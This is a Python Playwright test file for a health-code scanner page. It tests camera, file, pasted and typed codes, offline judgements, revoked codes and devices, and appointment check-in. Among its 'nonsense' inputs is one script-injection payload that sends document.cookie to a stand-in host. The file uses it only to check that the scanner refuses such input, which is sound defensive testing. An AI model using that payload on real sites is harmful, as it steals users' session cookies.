"""The scanner's page: every way a code comes in, what it says without a line, and what it makes of nonsense."""

import io
import re
from pathlib import Path

import pytest
import qrcode
from PIL import Image
from playwright.sync_api import expect

from healthcode.care.appointments.models import Appointment
from healthcode.core.db import session, transaction
from tests.pages.conftest import PhoneOf, ScannerOf
from tests.support.chromium import film, offline
from tests.support.phones import new_deed
from tests.support.screens import Place, ScannerScreen, context_for

HOUR = 3600


def picture_of(text: str) -> bytes:
    """A QR code of anything."""
    code = qrcode.QRCode(error_correction=qrcode.constants.ERROR_CORRECT_L, box_size=4)
    code.add_data(text)
    file = io.BytesIO()
    code.make_image().save(file, "PNG")
    return file.getvalue()


def test_a_camera_reads_a_phone_that_is_held_up_and_reads_it_once(
    street: Place, phone_of: PhoneOf, scanner_of: ScannerOf, camera: Path
) -> None:
    person = street.newcomer()
    phone, scanner = phone_of(street, person), scanner_of(street)
    held = [Image.open(io.BytesIO(phone.part("code").screenshot()))]
    film(camera, held)
    scanner.part("camera-button").click()
    read = scanner.judgement()
    assert (read.kind, read.person[:3]) == ("known", "陈*玲")
    scanner.go_on()
    expect(scanner.part("looking")).to_have_text("请把码对准镜头")
    scanner.page.clock.run_for(2_000)
    expect(scanner.part("result")).to_be_hidden()  # the same hand is still there
    assert len(street.verifications(person)) == 1
    scanner.page.reload()  # the camera opens by itself again
    assert scanner.judgement().kind == "known", "the same device asks again for an answer that may have been lost"
    assert len(street.verifications(person)) == 1
    scanner.go_on()
    scanner.part("camera-button").click()
    expect(scanner.page.locator("#video")).to_be_hidden()


def test_a_picture_file_and_a_pasted_text_are_read(street: Place, phone_of: PhoneOf, scanner_of: ScannerOf) -> None:
    phone, scanner = phone_of(street, street.newcomer()), scanner_of(street)
    assert scanner.look_at(phone.screenshot()).kind == "known"
    assert scanner.paste(phone.next_code()).kind == "known"
    scanner.go_on()
    blank = io.BytesIO()
    Image.new("RGB", (300, 300), "white").save(blank, "PNG")
    scanner.part("picture").set_input_files({"name": "a.png", "mimeType": "image/png", "buffer": blank.getvalue()})
    expect(scanner.part("looking")).to_have_text("这张图片里没有找到码。")


def test_twenty_digits_are_typed_as_they_are_spoken(street: Place, phone_of: PhoneOf, scanner_of: ScannerOf) -> None:
    phone, scanner = phone_of(street, street.newcomer()), scanner_of(street)
    phone.part("show-digits").click()
    expect(phone.part("digits")).to_have_text(re.compile(r"^86\d\d( \d{4}){4}$"))
    spoken = phone.part("digits").inner_text()
    wrong = spoken[:-1] + str((int(spoken[-1]) + 1) % 10)
    scanner.part("type-button").click()
    scanner.part("typed-input").fill(wrong)
    scanner.part("typed-button").click()
    expect(scanner.part("typed")).to_contain_text("不是正确的 20 位数字")
    assert scanner.paste(spoken).kind == "known"
    assert scanner.paste(spoken).kind == "known", "the same device asks again for an answer that may have been lost"
    assert scanner_of(street, street.town.far_station).paste(spoken).kind == "refused"


def test_a_hand_held_reader_works_without_a_click_whatever_has_the_focus(
    street: Place, phone_of: PhoneOf, scanner_of: ScannerOf
) -> None:
    phone, scanner = phone_of(street, street.newcomer()), scanner_of(street)
    scanner.part("step-check-in").focus()
    type_like_a_reader(scanner, phone.code())
    assert scanner.judgement().kind == "known"
    expect(scanner.part("result-next")).to_be_focused()
    type_like_a_reader(scanner, "HP1:" + "0" * 40)  # the next code goes on by itself
    expect(scanner.part("result")).to_have_attribute("data-slug", "code-unreadable")
    assert scanner.page.locator("input[name=step]:checked").get_attribute("value") == "check-in"


def type_like_a_reader(scanner, text: str) -> None:
    """Key by key, as an American keyboard, and Enter."""
    codes = {" ": "Space", "$": "Digit4", "%": "Digit5", "*": "Digit8", "+": "Equal", "-": "Minus", ".": "Period"}
    codes |= {"/": "Slash", ":": "Semicolon"}
    keys = [
        {
            "key": sign,
            "code": codes.get(sign) or (f"Digit{sign}" if sign.isdigit() else f"Key{sign}"),
            "shiftKey": sign in "$%*+:",
        }
        for sign in text
    ]
    scanner.page.evaluate(
        """keys => {
            for (const key of [...keys, {key: "Enter", code: "Enter"}]) {
                const target = document.activeElement ?? document.body;
                target.dispatchEvent(new KeyboardEvent("keydown", {...key, bubbles: true, cancelable: true}));
            }
        }""",
        keys,
    )


NONSENSE = {
    "an address": ("https://example.org/pay?to=me&amount=1000", "code-not-ours"),
    "a script": ("<script>fetch('//example.org/' + document.cookie)</script>", "code-not-ours"),
    "four thousand characters": ("A" * 4296, "code-unreadable"),
    "our prefix and rubbish": ("HP1:" + "0" * 360, "code-unreadable"),
    "another city's certificate": ("HC1:6BFOXN%TSMAHN-H3ZSUZK+FQK", "code-not-ours"),
    "small letters": ("hp1:6BF+70790T9WJWG.FKY*4GO0.O1", "code-not-ours"),
}


@pytest.mark.case("Q18")
@pytest.mark.parametrize("is_online", [True, False], ids=["with a line", "without"])
def test_nonsense_gets_a_plain_refusal(street: Place, scanner_of: ScannerOf, is_online: bool) -> None:
    scanner = scanner_of(street)
    scanner.look_at(picture_of("warm up"))  # without a line nothing more can be loaded
    scanner.page.context.set_offline(not is_online)
    for what, (text, slug) in NONSENSE.items():
        read = scanner.look_at(picture_of(text))
        assert (read.kind, read.tone, read.slug) == ("refused", "stop", slug), what
        assert re.search(r"[\u4e00-\u9fff]", read.title), what
        assert "example.org" not in read.title + read.text, what
        expect(scanner.part("second-check")).to_be_hidden()
        expect(scanner.part("line")).to_have_attribute("data-line", "online" if is_online else "offline")
    scanner.page.context.set_offline(False)
    scanner.waiting(0)
    for text, _ in NONSENSE.values():
        scanner.go_on()
        if text.lower().startswith("hp1:"):
            continue
        if not scanner.part("typed").is_visible():
            scanner.part("type-button").click()
        scanner.part("typed-input").fill(text)
        scanner.part("typed-button").click()
        expect(scanner.part("typed")).to_contain_text("不是正确的 20 位数字")


def test_without_a_line_an_old_list_is_said_in_words_and_never_green(
    street: Place, phone_of: PhoneOf, scanner_of: ScannerOf
) -> None:
    phone, scanner = phone_of(street, street.newcomer()), scanner_of(street)
    with offline(scanner.page.context), offline(phone.page.context):
        scanner.is_offline()
        assert scanner.paste(phone.code()).doubts == []
        scanner.page.clock.fast_forward(26 * HOUR * 1000)
        read = scanner.paste(phone.next_code(26 * HOUR))
        assert (read.kind, read.tone, read.doubts) == ("offline", "attention", ["stale", "clock"])
        assert "名单已有 26 小时没有更新" in read.text
        assert "请核对证件" in read.text
        expect(scanner.part("list-age")).to_have_attribute("data-stale", "")
        expect(scanner.part("list-age")).to_contain_text("昨天")


@pytest.mark.case("Q12")
def test_a_scanner_that_was_opened_without_a_line_judges_and_doubts_its_clock(
    street: Place, phone_of: PhoneOf, scanner_of: ScannerOf
) -> None:
    person = street.newcomer()
    phone, scanner = phone_of(street, person), scanner_of(street, is_kept=True)
    scanner.page.wait_for_function("() => navigator.serviceWorker.controller !== null")
    with offline(scanner.page.context):
        scanner.page.reload()
        scanner.is_offline()
        read = scanner.look_at(phone.screenshot())
        assert (read.kind, read.tone, read.doubts) == ("offline", "attention", ["clock"])
        assert "截图也可能通过" in read.text
        scanner.page.reload()
        scanner.waiting(1)
    scanner.waiting(0)
    assert [one.is_offline for one in street.verifications(person)] == [True]


@pytest.mark.case("Q13")
def test_a_code_that_was_stopped_is_refused_without_a_line_from_the_next_list_on(
    street: Place, phone_of: PhoneOf, scanner_of: ScannerOf
) -> None:
    phone = phone_of(street, street.newcomer())
    old = phone.code()
    before = phone.picture()
    phone.part("lost").click()
    phone.part("lost-yes").click()
    phone.redrawn(before)
    scanner = scanner_of(street)
    with offline(scanner.page.context):
        scanner.is_offline()
        stopped = scanner.paste(old)
        assert (stopped.kind, stopped.slug) == ("refused", "code-revoked")
        assert "照常接待" in stopped.text


@pytest.mark.case("Q17")
def test_a_card_is_taken_only_beside_the_person(street: Place, scanner_of: ScannerOf) -> None:
    person, scanner = street.newcomer(), scanner_of(street)
    with street.inside():
        client, town = street.app.test_client(), street.town
        town.visit(client, person, town.hospital_scanner)
        headers = town.headers(town.clerk) | new_deed()
        answer = client.post(f"/api/v1/residents/{person.id}/cards", headers=headers)
    assert answer.status_code == 201, answer.json
    card = answer.json["code"]
    asked = scanner.paste(card)
    assert (asked.kind, asked.slug, asked.tone) == ("refused", "code-needs-second-check", "attention")
    scanner.part("second-face").click()
    expect(scanner.part("result")).to_have_attribute("data-kind", "known")
    with offline(scanner.page.context):
        scanner.is_offline()
        alone = scanner.paste(card)
        assert (alone.kind, alone.doubts) == ("offline", ["card"])


def test_a_wrong_enrolment_code_is_refused_in_words(street: Place, scanner_of: ScannerOf, watched, desk) -> None:
    context = watched(context_for(desk, street.address), street)
    scanner = ScannerScreen(context.new_page(), street)
    scanner.open()
    scanner.page.locator("#enrolment-code").fill("ABCDE-FGHJK-MNPQR")
    scanner.part("enrol-button").click()
    expect(scanner.part("enrol").get_by_role("alert")).not_to_be_empty()
    expect(scanner.part("scan")).to_be_hidden()


@pytest.mark.case("Q14")
def test_a_scanner_that_was_stopped_says_so_at_its_next_question(
    street: Place, phone_of: PhoneOf, scanner_of: ScannerOf
) -> None:
    person = street.newcomer()
    phone, scanner = phone_of(street, person), scanner_of(street)
    device_id = scanner.kept("facts", "device")["device_id"]
    with street.inside():
        headers = street.town.headers(street.town.city_admin) | new_deed()
        stopped = street.app.test_client().post(
            f"/api/v1/devices/{device_id}/revocations", json={"reason": "lost"}, headers=headers
        )
    assert stopped.status_code in (200, 201), stopped.json
    read = scanner.paste(phone.code())
    assert (read.kind, read.title) == ("refused", "这台设备已停用")
    assert "请联系管理员" in read.text
    expect(scanner.part("line")).to_have_attribute("data-line", "stopped")
    expect(scanner.part("line-state")).to_have_text("此设备已停用，请联系管理员")

    with offline(scanner.page.context):
        scanner.is_offline()
        assert scanner.paste(phone.next_code()).kind == "offline"
        scanner.waiting(1)
    expect(scanner.part("line")).to_have_attribute("data-line", "stopped")
    scanner.go_on()
    expect(scanner.part("enrol")).to_contain_text("这台设备要重新注册才能再用")
    expect(scanner.page.locator("#enrolment-code")).to_have_value("")
    scanner.page.locator("#enrolment-code").fill(street.invitation())
    with scanner.page.expect_response("**/verifications/batch"):
        scanner.part("enrol-button").click()
    scanner.is_online()
    expect(scanner.part("enrol")).to_be_hidden()
    scanner.waiting(0)
    assert scanner.kept("facts", "device")["device_id"] != device_id
    assert [one.is_offline for one in street.verifications(person)] == [True], "what it read before is not lost"
    assert scanner.paste(phone.next_code()).kind == "known"


def test_who_is_expected_today_is_checked_in_and_hears_a_number(
    street: Place, phone_of: PhoneOf, scanner_of: ScannerOf
) -> None:
    person = street.newcomer()
    street.booked(person)
    phone, scanner = phone_of(street, person), scanner_of(street)
    asked: list[str] = []
    scanner.page.on("request", lambda request: asked.append(request.url.rpartition("/")[2]))
    assert scanner.paste(phone.code()).kind == "known"
    expect(scanner.part("agenda")).to_have_text("14:30 内科，312 室")
    button = scanner.part("check-in-button")
    expect(button).to_be_focused()
    expect(scanner.page.locator("#result .main-act:visible")).to_have_attribute("data-act", "check-in")
    scanner.page.keyboard.press("Enter")
    scanner.page.keyboard.press("Enter")  # in a hurry
    expect(scanner.part("number")).to_have_text("您的号：1")
    scanner.page.keyboard.press("Enter")  # and once more: the number stays
    expect(scanner.part("number")).to_be_visible()
    expect(scanner.part("agenda")).to_have_text("14:30 内科，312 室，已签到，1 号")
    expect(button).to_be_hidden()
    expect(scanner.part("result-next")).to_be_focused()
    assert asked.count("check-ins") == 1
    scanner.page.wait_for_timeout(900)
    scanner.page.keyboard.press("Enter")
    expect(scanner.part("result")).to_be_hidden()

    assert scanner.paste(phone.next_code()).kind == "known"  # who comes again is told the same number
    expect(scanner.part("agenda")).to_have_text("14:30 内科，312 室，已签到，1 号")
    expect(button).to_be_hidden()
    expect(scanner.part("number")).to_be_hidden()


def test_an_answer_that_was_lost_is_not_a_lost_number(street: Place, phone_of: PhoneOf, scanner_of: ScannerOf) -> None:
    person = street.newcomer()
    street.booked(person, title="外科", room=None)
    phone, scanner = phone_of(street, person), scanner_of(street)
    assert scanner.paste(phone.code()).kind == "known"
    expect(scanner.part("agenda")).to_have_text("14:30 外科")

    def lose(route) -> None:
        route.fetch()
        route.abort()

    scanner.page.route("**/check-ins", lose, times=1)
    scanner.part("check-in-button").click()
    expect(scanner.part("check-in-trouble")).not_to_be_empty()
    expect(scanner.part("check-in-button")).to_be_hidden()  # as long as there is no line
    scanner.page.evaluate("dispatchEvent(new Event('online'))")
    scanner.is_online()
    scanner.part("check-in-button").click()
    expect(scanner.part("number")).to_have_text("您的号：1")
    expect(scanner.part("check-in-trouble")).to_be_hidden()


def test_why_nobody_is_checked_in_is_said_in_words(street: Place, phone_of: PhoneOf, scanner_of: ScannerOf) -> None:
    person = street.newcomer()
    appointment_id = street.booked(person)
    phone, scanner = phone_of(street, person), scanner_of(street)
    assert scanner.paste(phone.code()).kind == "known"
    expect(scanner.part("check-in-button")).to_be_visible()
    with street.inside(), transaction():
        session().get_one(Appointment, appointment_id).state = "cancelled"
    scanner.part("check-in-button").click()
    expect(scanner.part("check-in-trouble")).to_have_text("今天在此没有预约")
    expect(scanner.part("check-in-button")).to_be_hidden()
    expect(scanner.page.locator("#result .main-act:visible")).to_have_attribute("data-act", "next")
    with offline(scanner.page.context):
        scanner.is_offline()
        assert scanner.paste(phone.next_code()).kind == "offline"
        expect(scanner.part("check-in-button")).to_be_hidden()
        expect(scanner.part("check-in-trouble")).to_be_hidden()


def test_at_another_step_the_next_person_stays_the_main_act(
    street: Place, phone_of: PhoneOf, scanner_of: ScannerOf
) -> None:
    person = street.newcomer()
    street.booked(person)
    phone, scanner = phone_of(street, person), scanner_of(street)
    scanner.step("examine")
    assert scanner.paste(phone.code()).kind == "known"
    expect(scanner.part("check-in-button")).to_be_visible()
    expect(scanner.part("result-next")).to_be_focused()
    expect(scanner.page.locator("#result .main-act:visible")).to_have_attribute("data-act", "next")
